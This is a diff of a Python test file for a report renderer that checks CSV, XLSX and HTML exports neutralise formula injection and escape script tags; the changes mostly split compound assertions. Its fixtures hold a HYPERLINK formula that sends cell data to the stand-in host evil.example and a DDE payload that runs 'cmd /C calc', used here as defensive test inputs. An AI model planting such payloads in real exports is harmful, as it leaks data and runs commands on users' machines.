@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 from engine.reports import Figure, Report, Table
 from reports import FORMATS, neutralise, render
 
-HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
@@ -83,7 +83,8 @@ def test_xlsx_has_a_sheet_per_figure_linked_from_its_count() -> None:
     assert book.sheetnames == ["rag-agency", "detail", "F1"]  # the empty figure has none
     count = book["rag-agency"].cell(row=3, column=2)
     assert count.value == 2
-    assert count.hyperlink is not None and count.hyperlink.location == "'F1'!A1"
+    assert count.hyperlink is not None
+    assert count.hyperlink.location == "'F1'!A1"
     f1 = book["F1"]
     assert [f1.cell(row=r, column=1).value for r in (1, 3, 4)] == ["sept: red", "r/A1", "r/A2"]
 
@@ -92,9 +93,12 @@ def test_csv_cells_are_neutralised_and_figures_listed() -> None:
     text = render(_report(), "csv").decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     cells = [c for row in rows for c in row]
-    assert "'" + HOSTILE in cells and "'" + CMD in cells and "'-r/A2" in cells
+    assert "'" + HOSTILE in cells
+    assert "'" + CMD in cells
+    assert "'-r/A2" in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-3")]
-    assert ["sept: red", "2", "r/A1"] in rows and ["sept: red", "2", "r/A2"] in rows
+    assert ["sept: red", "2", "r/A1"] in rows
+    assert ["sept: red", "2", "r/A2"] in rows
 
 
 class _Tables(HTMLParser):
@@ -124,10 +128,13 @@ def test_html_tables_have_captions_scopes_and_drill_down_links() -> None:
     found.feed(page)
     assert found.captions == 2
     assert set(found.scopes) == {"col", "row"}
-    assert found.links == ["#f1"] and "f1" in found.ids  # each link has its list
-    assert found.scripts == 0 and "&lt;script&gt;" in page
+    assert found.links == ["#f1"]
+    assert "f1" in found.ids
+    assert found.scripts == 0
+    assert "&lt;script&gt;" in page
     assert "<title>RAG &lt;and&gt; state</title>" in page
-    assert "<li>r/A1</li>" in page and 'lang="en"' in page
+    assert "<li>r/A1</li>" in page
+    assert 'lang="en"' in page
 
 
 def test_json_is_the_reports_data() -> None:
